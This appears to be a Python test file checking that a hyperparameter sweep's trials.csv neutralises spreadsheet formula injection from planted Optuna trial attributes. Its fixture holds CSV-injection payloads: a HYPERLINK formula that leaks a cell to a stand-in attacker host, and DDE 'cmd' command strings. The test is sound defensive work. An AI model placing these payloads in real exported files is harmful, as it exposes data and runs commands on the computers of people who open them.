"""Issue 66, point 6: trials.csv (logged to the sweep's MLflow run) is read in spreadsheets, and its cells
come from the Optuna storage, which others can write: a trial planted there with formula-like user
attributes (`error`, `run_id`, `seed`...) is written with every cell neutralised, as predictions.csv is
(tasks/core/spreadsheet.py), while numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import optuna
from optuna.trial import TrialState, create_trial

from tasks.core.config.yaml_io import load_params
from tasks.tools.sweep.results import TRIALS, summarise, write_study
from tasks.tools.sweep.space import distributions
from tasks.tools.sweep.study import JOURNAL, open_study
from tests.conftest import write_params

HYPERLINK = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")'
PLANTED = {
    "error": HYPERLINK,
    "run_id": "+cmd|' /C calc'!A0",
    "seed": "@SUM(1+1)*cmd|' /C calc'!A0",
    "best_sha256": "-2+3+cmd|' /C calc'!A0",
    "seconds": "\t=1+1",
}


def test_formula_like_user_attrs_of_a_stored_trial_are_neutralised_in_trials_csv(tmp_path: Path) -> None:
    space = {"train.lr": {"type": "float", "low": 0.001, "high": 1.0, "log": True}}
    cfg = load_params(
        write_params(tmp_path / "params.yaml", {"sweep": {"trials": 2, "batch": 1, "space": space}})
    ).sweep
    open_study(cfg, None, tmp_path / "study", "fp")  # the sweep made the study
    journal = optuna.storages.journal.JournalFileBackend(str(tmp_path / "study" / JOURNAL))
    study = optuna.load_study(study_name=cfg.name, storage=optuna.storages.JournalStorage(journal))
    # another writer of the storage adds a trial whose params pass the sweep's checks and whose
    # attributes are formulas; a genuine one beside it keeps its numbers
    dists = distributions(cfg.space)  # params.yaml's space, with train.lr as above
    params = {key: getattr(d, "low", None) if hasattr(d, "low") else d.choices[0] for key, d in dists.items()}
    params["train.lr"] = 0.01
    study.add_trial(create_trial(params=params, distributions=dists, value=0.5, user_attrs=PLANTED))
    study.add_trial(
        create_trial(
            params={**params, "train.lr": 0.02},
            distributions=dists,
            state=TrialState.FAIL,
            user_attrs={"seed": -7, "seconds": -1.5, "error": "RuntimeError: out of memory"},
        )
    )
    summary = summarise(study, cfg, 0.0)
    write_study(study, summary, tmp_path / "out")

    rows = list(csv.reader((tmp_path / "out" / TRIALS).read_text().splitlines()))
    assert len(rows) == 3, rows  # the header and one row per trial: no row forged by a carriage return
    header, planted, genuine = rows[0], *(dict(zip(rows[0], row, strict=True)) for row in rows[1:])
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(value), (value, row)
    for name, value in PLANTED.items():
        assert planted[name] == "'" + value, (name, planted[name])
    assert planted["train.lr"] == "0.01" and planted["value"] == "0.5"
    assert genuine["seed"] == "-7" and genuine["seconds"] == "-1.5", genuine  # numbers stay numbers
    assert genuine["error"] == "RuntimeError: out of memory"
    assert header == sorted(header)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
